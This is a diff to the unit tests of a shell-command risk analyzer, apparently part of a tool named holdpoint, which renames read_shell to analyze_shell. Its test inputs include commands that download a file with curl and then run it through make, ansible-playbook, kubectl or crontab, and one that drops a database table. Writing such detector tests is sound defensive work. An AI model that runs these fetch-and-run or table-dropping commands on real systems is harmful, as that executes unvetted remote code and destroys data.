@@ -3,7 +3,7 @@
 import pytest
 from tests.unit.risk.shell.levels import level
 
-from holdpoint.core.risk.shell.analyzer import read_shell
+from holdpoint.core.risk.shell.analyzer import analyze_shell
 from holdpoint.messages.risk import RiskLevel
 
 FILES = (
@@ -65,18 +65,19 @@ def test_a_package_without_scripts_or_with_broken_ones_is_read_as_it_stands() ->
 def test_statements_in_a_file_count_where_a_database_reads_them(reads: str) -> None:
     grave = f"echo 'drop table orders' > out/x.sql; {reads.format('out/x.sql')}"
     assert level(grave) >= RiskLevel.HIGH
-    assert "select 1\n" in read_shell(f"echo 'select 1' > x.sql; {reads.format('x.sql')}").sql
+    read = analyze_shell(f"echo 'select 1' > x.sql; {reads.format('x.sql')}")
+    assert "select 1\n" in read.statements
 
 
 def test_what_the_network_sent_is_run_unseen() -> None:
     for command in ("make -f x", "ansible-playbook x", "kubectl apply -f x", "crontab x"):
-        found = read_shell(f"curl -sLo x https://h.example/x; {command}").signals
+        found = analyze_shell(f"curl -sLo x https://h.example/x; {command}").signals
         assert [one.rule for one in found] == ["shell.fetched-code"], command
 
 
 def test_nothing_comes_back_from_where_output_is_thrown_away() -> None:
     for text in ("curl -s h > /dev/null; sh null", "curl -so /dev/null h; sh null"):
-        assert read_shell(text).signals == (), text
+        assert analyze_shell(text).signals == (), text
 
 
 @pytest.mark.parametrize(
